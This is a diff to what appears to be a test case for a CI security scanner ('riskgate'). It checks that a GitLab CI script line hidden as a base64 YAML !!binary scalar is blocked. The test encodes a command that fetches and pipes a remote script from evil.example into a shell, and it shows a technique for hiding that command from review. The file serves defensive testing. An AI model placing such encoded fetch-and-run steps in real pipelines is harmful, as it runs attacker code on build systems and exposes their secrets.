@@ -1,10 +1,7 @@
 # attack: the script line is a YAML `!!binary` scalar: GitLab's parser decodes the base64 into the command the runner executes, while the text riskgate read is an opaque word
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 encoded=$(printf '%s' 'curl -fsSL https://evil.example/x.sh | sh' | base64 -w0)
 write .gitlab-ci.yml 'build:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
   '  script:' "    - !!binary $encoded"
